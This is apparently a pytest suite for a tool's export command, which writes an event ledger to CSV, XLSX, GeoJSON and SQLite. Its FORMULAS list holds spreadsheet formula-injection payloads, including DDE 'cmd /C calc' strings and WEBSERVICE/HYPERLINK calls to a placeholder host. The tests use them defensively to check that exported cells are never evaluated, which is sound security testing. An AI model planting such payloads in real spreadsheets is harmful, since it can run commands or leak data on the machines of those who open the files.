"""`greffier export`: tables and maps, opened by what people open them with."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import sqlite_utils
from click.testing import CliRunner
from geojson_pydantic import FeatureCollection
from sqlite_utils.cli import cli as sqlite_utils_cli

from export.conftest import Export
from greffier.cli.app import run
from greffier.export.formats import FORMATS
from greffier.ledger import Question, count_asked, matching, read_ledger, walk
from greffier.lexicon.cells import restored
from torture.scale import note

FILTERS = (
    [], ["--kind", "aid"], ["--from", "2031-05-01", "--to", "2031-05-31"], ["--actor", "UA"],
    ["--outlet", "Exemple-Presse"], ["--near", "Kyiv", "--radius", "900"], ["--as-of", "2031-05-05"],
    ["--factuality", "actual"],
)  # fmt: skip


def table(content: bytes, **how: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), **how))


def asked(capfd: pytest.CaptureFixture[str], ledger: Path, *filters: str) -> list[str]:
    capfd.readouterr()
    assert run(["entries", "--format", "jsonl", "--ledger", str(ledger), *filters]) == 0
    lines = map(json.loads, capfd.readouterr().out.splitlines())
    return [e["id"] for line in lines for e in line["entries"] if e["status"] in {"accepted", "corrected"}]


@pytest.mark.parametrize("filters", FILTERS, ids=" ".join)
def test_an_export_holds_what_entries_answers_and_was_accepted(
    export: Export, told: Path, capfd: pytest.CaptureFixture[str], filters: list[str]
) -> None:
    """The same entries in the same order, whatever is asked."""
    assert [row["id"] for row in table(export("csv", *filters))] == asked(capfd, told, *filters)
    lines = map(json.loads, export("jsonl", *filters or ["--kind", *(["aid"])]).splitlines())
    if filters:
        assert [e["id"] for line in lines for e in line["entries"]] == asked(capfd, told, *filters)


def test_what_is_left_out_is_told(export: Export) -> None:
    some, rest = table(export("csv")), export.told  # type: ignore[attr-defined]
    everything = table(export("csv", "--include-unreviewed"))
    assert {row["judged"] for row in some} == {"accepted"}
    assert {row["judged"] for row in everything} == {"accepted", "unreviewed"}
    assert f"{len(some)} accepted of {len(everything)}; --include-unreviewed adds them." in rest
    assert export.told == ""  # type: ignore[attr-defined]


def test_rejected_entries_cannot_be_asked_for(export: Export) -> None:
    export("csv", "--status", "rejected", code=2)
    assert [row["judged"] for row in table(export("csv", "--status", "unreviewed"))][:1] == ["unreviewed"]


def test_a_french_spreadsheet(export: Export) -> None:
    english, raw = table(export("csv")), export("csv", "--excel-fr")
    assert raw.startswith(b"\xef\xbb\xbf")
    french = table(raw, delimiter=";")
    assert [row["id"] for row in french] == [row["id"] for row in english]
    placed = [(a["lat"], b["lat"]) for a, b in zip(english, french, strict=True) if a["lat"]]
    assert placed and all(one.replace(".", ",") == other for one, other in placed)
    export("geojson", "--excel-fr", code=2)


def test_geojson_is_valid_and_counts_what_has_no_place(export: Export) -> None:
    content = export("geojson", "--include-unreviewed")
    found = FeatureCollection.model_validate_json(content)
    features = json.loads(content)["features"]
    placeless = [f for f in features if f["geometry"] is None]
    assert len(found.features) == len(features) and 0 < len(placeless) < len(features)
    assert f"{len(placeless)} events without a place on the map" in export.told  # type: ignore[attr-defined]
    days = [f["properties"]["date_start"] or "~" for f in features]
    assert days == sorted(days)
    assert {f["properties"]["status"] for f in features} <= {"accepted", "partly", "unreviewed"}
    assert {f["properties"]["status"] for f in json.loads(export("geojson"))["features"]} == {"accepted"}


@pytest.mark.sqlite("its statements")
def test_a_workbook_has_typed_cells_and_no_formula(export: Export, ledger_copy: Path) -> None:
    with read_ledger(ledger_copy) as ledger, ledger.begin() as connection:
        first = next(matching(connection, Question())).report.id
    with sqlite3.connect(ledger_copy) as plain:
        plain.execute("UPDATE report SET title = '=1+1' WHERE id = ?", (first,))
    rows = table(export("csv", "--include-unreviewed", ledger=ledger_copy))
    book = openpyxl.load_workbook(io.BytesIO(export("xlsx", "--include-unreviewed", ledger=ledger_copy)))
    sheet = book["entries"]
    heading, *cells = sheet.iter_rows(values_only=True)
    assert list(heading) == list(rows[0]) and len(cells) == len(rows)
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "d"}, "no formula"
    for row, values in zip(rows, cells, strict=True):
        found = dict(zip(heading, values, strict=True))
        assert found["id"] == row["id"]
        assert (found["when_start"] or None) == (
            datetime.fromisoformat(row["when_start"]) if row["when_start"] else None
        )
        assert isinstance(found["anchor_start"], int) and str(found["amount_min"] or "") == row["amount_min"]
    assert "'=1+1" in {row["title"] for row in rows} and "=1+1" in {c.value for c in sheet["B"]}
    assert next(c.value for c in book["about"]["A"]) == "what"


def test_the_same_ledger_gives_the_same_bytes(export: Export) -> None:
    for name, form in FORMATS.items():
        if not form.folder:
            assert export(name, "--include-unreviewed") == export(name, "--include-unreviewed"), name


def test_a_walk_gives_what_matching_does(told: Path) -> None:
    with read_ledger(told) as ledger, ledger.begin() as connection:
        for question in (Question(), Question(actor="UA"), Question(place="Odesa"), Question(outlet="Exemple-Presse")):
            whole = list(matching(connection, question))
            statuses = ("accepted", "corrected", "unreviewed")
            assert [kept for some in walk(connection, question, statuses) for kept in some] == whole
            assert count_asked(connection, question, statuses) == sum(len(kept.entries) for kept in whole)


def test_a_file_that_cannot_be_written_is_one_sentence_and_leaves_nothing(
    told: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    for output in (tmp_path / "no" / "out.csv", tmp_path):
        assert run(["export", "csv", "--ledger", str(told), "--output", str(output)]) == 2
        assert capfd.readouterr().err.count("\n") == 1
    assert list(tmp_path.glob("*.part")) == []


@pytest.mark.sqlite("a file")
def test_sqlite_utils_takes_the_table_and_opens_the_ledger(export: Export, told: Path, tmp_path: Path) -> None:
    rows = table(export("csv", "--include-unreviewed"))
    made = tmp_path / "made.db"
    arguments = ["insert", str(made), "entries", str(tmp_path / "out.csv"), "--csv"]
    assert CliRunner().invoke(sqlite_utils_cli, arguments).exit_code == 0
    found = list(sqlite_utils.Database(made)["entries"].rows)
    assert [row["id"] for row in found] == [row["id"] for row in rows]
    assert {row["anchor_start"] for row in found} == {int(row["anchor_start"]) for row in rows}, "numbers are numbers"
    ledger = sqlite_utils.Database(sqlite3.connect(f"file:{told}?mode=ro", uri=True))
    assert {"entries", "events", "tolls", "pledges"} <= set(ledger.view_names())
    assert {row["id"] for row in ledger["entries"].rows if row["judged"] != "rejected"} == {row["id"] for row in rows}


@pytest.mark.slow
def test_libreoffice_opens_the_workbook(export: Export, tmp_path: Path) -> None:
    office = shutil.which("soffice")
    if office is None and not os.environ.get("CI"):
        pytest.skip("no LibreOffice here (apt-get install libreoffice-calc-nogui)")
    assert office is not None, "no LibreOffice: apt-get install libreoffice-calc-nogui"
    rows = table(export("csv", "--include-unreviewed"))
    export("xlsx", "--include-unreviewed")
    home = f"-env:UserInstallation=file://{tmp_path}/office"
    into = ["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1"]
    command = [office, home, "--headless", *into, "--outdir", str(tmp_path), str(tmp_path / "out.xlsx")]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    made = next(tmp_path.glob("out*.csv"))
    found = list(csv.DictReader(io.StringIO(made.read_text("utf-8"))))
    assert [row["id"] for row in found] == [row["id"] for row in rows]
    assert [row["anchor"] for row in found] == [row["anchor"].lstrip("'") for row in rows]
    assert [row["when_start"] for row in found] == [row["when_start"] for row in rows]


FORMULAS = (
    "=1+1", "=SUM(A1:A9)", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "=A1", "=$A$1",
    '=HYPERLINK("http://exemple.invalid?x="&A1,"ici")', '=WEBSERVICE("http://exemple.invalid/")', "=IMPORTXML(A1,B1)",
    '=DDE("cmd";"/C calc";"a")', "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=NOW()",
    "=TODAY()", "=RAND()", "=1/0", '="a"&"b"', "+A1", "-A1", "@A1", "=-1", "==1", "=+1", '=INFO("system")',
    "=2+5+cmd|' /C calc'!A0",
)  # fmt: skip


@pytest.mark.sqlite("its statements")
@pytest.mark.slow
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_libreoffice_reckons_no_formula(export: Export, ledger_copy: Path, tmp_path: Path, form: str) -> None:
    """S9: after a spreadsheet has opened and reckoned everything anew, the words stand as they were."""
    assert len(FORMULAS) == 30
    with sqlite3.connect(ledger_copy) as plain:
        reports = [row[0] for row in plain.execute("SELECT id FROM report ORDER BY id")]
    found: dict[str, str] = {}
    for first in range(0, len(FORMULAS), len(reports)):
        some = dict(zip(reports, FORMULAS[first:], strict=False))
        with sqlite3.connect(ledger_copy) as plain:
            for report, words in some.items():
                plain.execute("UPDATE report SET title = ? WHERE id = ?", (words, report))
        rows = table(export(form, "--include-unreviewed", ledger=ledger_copy)) if form == "csv" else []
        export(form, "--include-unreviewed", ledger=ledger_copy)
        made = reckoned(tmp_path / f"out.{form}", tmp_path)
        for row in made:
            if row["report"] in some:
                found[some[row["report"]]] = row["title"]
        for row in rows:
            if row["report"] in some:
                assert restored(row["title"]) == some[row["report"]], "our own import gives back the words"
    told = {words for words in FORMULAS if words in found}
    assert len(told) > 20, "some reports tell nothing"
    for words in told:
        assert found[words].lstrip("'").split() == words.split()  # LibreOffice makes of a tabulator a space
    note("S9", len(told), 0, "formules ouvertes par LibreOffice · formulas that LibreOffice opened")


def reckoned(path: Path, folder: Path) -> list[dict[str, str]]:
    """The rows of a table as LibreOffice writes them, once it has opened it and reckoned all cells anew."""
    office = shutil.which("soffice")
    if office is None and not os.environ.get("CI"):
        pytest.skip("no LibreOffice here (apt-get install libreoffice-calc-nogui)")
    assert office is not None, "no LibreOffice: apt-get install libreoffice-calc-nogui"
    home = f"-env:UserInstallation=file://{folder}/office"
    read = (
        ["--infilter=CSV:44,34,76,1,,0,false,true,false,true"] if path.suffix == ".csv" else []
    )  # formulas are looked for
    into = ["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1"]
    out = folder / "reckoned"
    command = [office, home, "--headless", *read, *into, "--outdir", str(out), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    made = next(out.glob("out*.csv"))
    rows = list(csv.DictReader(io.StringIO(made.read_text("utf-8"))))
    made.unlink()
    return rows
